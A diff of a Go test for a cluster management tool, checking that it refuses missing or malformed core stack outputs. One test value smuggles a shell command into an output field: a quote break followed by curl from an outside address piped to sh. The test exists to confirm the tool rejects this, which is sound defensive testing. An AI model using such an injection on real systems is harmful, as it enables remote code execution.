@@ -131,7 +131,7 @@ func TestCoreOutputsCheckedAndRefused(t *testing.T) {
 	editOutputs(t, c, "core", func(outs map[string]any) { delete(outs, "AgentSecurityGroupId") })
 	d := describeCluster(t, "core")
 	if d.Health != "broken" || len(d.Problems) == 0 || !strings.Contains(d.Problems[0].Reason, "core outputs missing: AgentSecurityGroupId") ||
-		!strings.Contains(d.Problems[0].Repair, "clusterctl render core core") {
+		!strings.Contains(d.Problems[0].Repair, "clusterctl update-core core") {
 		t.Errorf("core without an output: %+v", d)
 	}
 	r := clusterctl(t, "add-agents", "-n", "g", "-t", "t3.small", "-j", "core", "-q")
@@ -142,10 +142,10 @@ func TestCoreOutputsCheckedAndRefused(t *testing.T) {
 	resetMoto(t)
 	must(t, "create-core", "core", "-q")
 	editOutputs(t, c, "core", func(outs map[string]any) {
-		outs["ControlPrivateIp"].(map[string]any)["Value"] = "10.0.0.9'; curl http://203.0.113.9/x | sh; : '"
+		outs["ManagersKey"].(map[string]any)["Value"] = "join/swarm/managers'; curl http://203.0.113.9/x | sh; : '"
 	})
 	r = clusterctl(t, "add-agents", "-n", "g", "-t", "t3.small", "-j", "core", "-q")
-	if r.code != 1 || !strings.Contains(r.stderr, `core output ControlPrivateIp is "10.0.0.9'; curl`) || !strings.Contains(r.stderr, "not an IPv4 address") {
+	if r.code != 1 || !strings.Contains(r.stderr, `core output ManagersKey is "join/swarm/managers'; curl`) || !strings.Contains(r.stderr, "not a bucket key") {
 		t.Errorf("add-agents to a core with shell code in an output:\n%s", r)
 	}
 	if names := c.stackNames(t); len(names) != 1 {
